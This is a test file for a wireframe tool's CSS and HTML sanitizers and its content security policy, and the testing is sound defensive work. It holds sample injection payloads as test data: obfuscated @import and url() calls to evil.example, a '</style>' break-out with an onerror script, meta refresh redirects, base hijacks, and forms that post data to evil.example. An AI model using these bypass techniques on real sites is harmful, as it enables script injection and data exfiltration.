import { JSDOM } from 'jsdom';
import { describe, expect, it } from 'vitest';
import { cssProblems, hostileCss, hostileHtml, markupProblems } from '../../../test/support/hostile-content.js';
import { composeWireframe } from './ai/generate-wireframe/offline.js';
import { WIREFRAME_CSP } from '../../shared/wireframe-csp.js';
import { sanitizeCss, tokenProblem } from './css-sanitizer.js';
import { sanitizeHtml, sanitizeWireframe } from './html-sanitizer.js';
import { wireframeDocument } from './wireframe-document.js';

/**
 * The hostile corpus (test/support/hostile-content.ts) through the CSS and HTML sanitizers and into the downloaded
 * file: nothing in the output can load, run, navigate or close its <style> element, and what was taken out is
 * reported. The browser test (test/e2e/hostile-wireframes.test.ts) opens the same corpus in Chromium.
 */

const ORIGIN = 'http://127.0.0.1:9';

/** Payloads made inert without removing anything: a "<" in a string or a comment is escaped or dropped. */
const inertAsWritten = new Set(['</style> inside a string', '</style> inside a comment']);

/** The download of a wireframe, parsed: its <head> and <body> as a browser builds them. */
function openedDownload(html: string, css: string | null): Document {
  return new JSDOM(wireframeDocument({ title: 'Hostile', htmlContent: html, cssContent: css })).window.document;
}

describe('hostile CSS', () => {
  it.each(hostileCss(ORIGIN).map((c) => [c.name, c.css]))('%s: stored inert, reported, and kept inside its <style> element', (name, css) => {
    const result = sanitizeCss(css);
    expect(cssProblems(result.css), result.css).toEqual([]);
    expect(result.css).not.toMatch(/<\/style|@import|127\.0\.0\.1:9\/[^'"]*\.(?:css|png|woff2|svg|xml|htc|cur)\)/i);
    expect(tokenProblem(result.css)).toBeNull();
    if (inertAsWritten.has(name)) expect(result.removed).toEqual([]);
    else expect(result.removed.length, JSON.stringify(result)).toBeGreaterThan(0);

    // As css_content in the download: one <style> in <head>, the body exactly the wireframe's markup.
    const document = openedDownload('<p id="only">x</p>', result.css);
    expect(document.head.querySelectorAll('style')).toHaveLength(1);
    expect(document.head.querySelectorAll('meta[http-equiv]')).toHaveLength(1);
    expect(document.body.innerHTML.trim()).toBe('<p id="only">x</p>');

    // In a <style> element of the markup (where a real "</style>" ends the element and the rest is markup, which the
    // HTML sanitizer then cleans): nothing loads or runs, in the fragment or in the download.
    const html = sanitizeHtml(`<style>${css}</style><p id="only">x</p>`);
    expect(markupProblems(html.html)).toEqual([]);
    expect(markupProblems(wireframeDocument({ title: 'Hostile', htmlContent: html.html, cssContent: null }), { document: true })).toEqual([]);
  });

  it('reports the @import that comments used to hide, and the "<" that split </style>', () => {
    expect(sanitizeCss('/**/@import/**/url(http://evil.example/a.css);p{color:red}')).toEqual({ css: 'p{color:red}', removed: ['@import: @import url(http://evil.example/a.css);'] });
    const split = sanitizeCss('p{color:red}</sty/**/le><img src=x onerror=alert(1)>');
    expect(split.css).toBe('p{color:red}');
    expect(split.removed).toEqual([expect.stringMatching(/^"<" in CSS .*<\/sty\/\*\*\/le><img/)]);
    expect(sanitizeCss('@\\69mport "http://evil.example/a.css";').removed).toEqual([expect.stringMatching(/^@import: /)]);
    expect(sanitizeCss('p{background:\\75 rl(http://evil.example/x.png)}').removed).toEqual([expect.stringMatching(/^url\(\): .*evil\.example/)]);
    expect(sanitizeWireframe({ html: '<p>x</p>', css: '/**/@import/**/url(http://evil.example/a.css);' }).removed).toEqual([expect.stringMatching(/^@import: .*\(in the CSS\)$/)]);
  });

  it('keeps data images, ordinary CSS as written, and media ranges with their meaning', () => {
    const plain = '.card { border: 1px solid #ccc; }\n/* layout */\n@media (max-width: 600px) { .card { padding: 4px } }\n.a { color: red; &:hover { color: blue } }';
    expect(sanitizeCss(plain)).toEqual({ css: plain, removed: [] });
    expect(sanitizeCss('p{background:url("data:image/png;base64,iVBORw0KGgo=")}')).toEqual({ css: 'p{background:url("data:image/png;base64,iVBORw0KGgo=")}', removed: [] });
    // "<" may not stay even where it is harmless CSS: the range is turned around instead.
    expect(sanitizeCss('@media (width < 600px){p{color:red}}')).toEqual({ css: '@media (600px>width){p{color:red}}', removed: [] });
    expect(sanitizeCss('@media (400px <= width < 900px){p{color:red}}').css).toBe('@media (900px>width>=400px){p{color:red}}');
    // An SVG data image keeps its markup, written with escapes.
    const svg = sanitizeCss(`p{background:url("data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'/>")}`);
    expect(svg.removed).toEqual([]);
    expect(svg.css).not.toContain('<');
    expect(svg.css).toContain('\\3c svg');
  });

  it('keeps the offline writer’s stylesheet exactly as written', () => {
    const { css } = composeWireframe({ projectName: 'ShiftShare', idea: 'Volunteers book shifts.' });
    expect(sanitizeCss(css)).toEqual({ css, removed: [] });
  });

  it('keeps a style attribute that needed no cleaning, and drops one that did', () => {
    expect(sanitizeHtml('<p style="color: red; margin: 0 auto">x</p>')).toEqual({ html: '<p style="color: red; margin: 0 auto">x</p>', removed: [] });
    const dropped = sanitizeHtml('<p style="color:red; background: u\\72l(http://evil.example/x.png)">x</p>');
    expect(dropped.html).toBe('<p>x</p>');
    expect(dropped.removed).toEqual([expect.stringMatching(/^style attribute on <p> \(url\(\): .*http:\/\/evil\.example\/x\.png/)]);
  });

  it('keeps CSS stored before this sanitizer inside its <style> element in the download', () => {
    const legacy = 'p{color:red}</style><meta http-equiv="refresh" content="0;url=http://evil.example"><form action="http://evil.example"></form>';
    const document = openedDownload('<p>x</p>', legacy);
    expect(document.head.querySelectorAll('style')).toHaveLength(1);
    expect(document.querySelectorAll('form, meta[http-equiv=refresh]')).toHaveLength(0);
    expect(document.head.querySelector('style')!.textContent).toContain('\\3c /style>');
  });
});

describe('hostile HTML', () => {
  it.each(hostileHtml(ORIGIN).map((h) => [h.name, h.html]))('%s: stored inert and reported', (_name, html) => {
    const result = sanitizeHtml(html);
    expect(markupProblems(result.html), result.html).toEqual([]);
    expect(result.removed.length, JSON.stringify(result)).toBeGreaterThan(0);
    const document = openedDownload(result.html, null);
    expect(markupProblems(document.documentElement.outerHTML, { document: true })).toEqual([]);
    expect(document.head.querySelectorAll('style')).toHaveLength(1);
  });

  it('leaves forms that submit nowhere, and says which URLs went', () => {
    const result = sanitizeHtml('<form action="http://evil.example/collect" method="post"><input name="q"><button formaction="http://evil.example/b">Go</button></form>');
    expect(result.html).toBe('<form method="post"><input name="q"><button>Go</button></form>');
    expect(result.removed).toEqual(['action on <form> (external or relative URL: http://evil.example/collect)', 'formaction on <button> (external or relative URL: http://evil.example/b)']);
    expect(sanitizeHtml('<meta http-equiv="refresh" content="0;url=http://evil.example"><p>x</p>')).toEqual({ html: '<p>x</p>', removed: ['<meta> element'] });
    expect(sanitizeHtml('<base href="http://evil.example/"><p>x</p>')).toEqual({ html: '<p>x</p>', removed: ['<base> element'] });
  });
});

describe('the wireframe CSP', () => {
  it('allows no request, no form submission and no <base>, in the download and its header', () => {
    expect(WIREFRAME_CSP).toBe("default-src 'none'; style-src 'unsafe-inline'; img-src data:; form-action 'none'; base-uri 'none'");
    const document = openedDownload('<p>x</p>', null);
    expect(document.querySelector('meta[http-equiv="Content-Security-Policy"]')!.getAttribute('content')).toBe(WIREFRAME_CSP);
  });
});
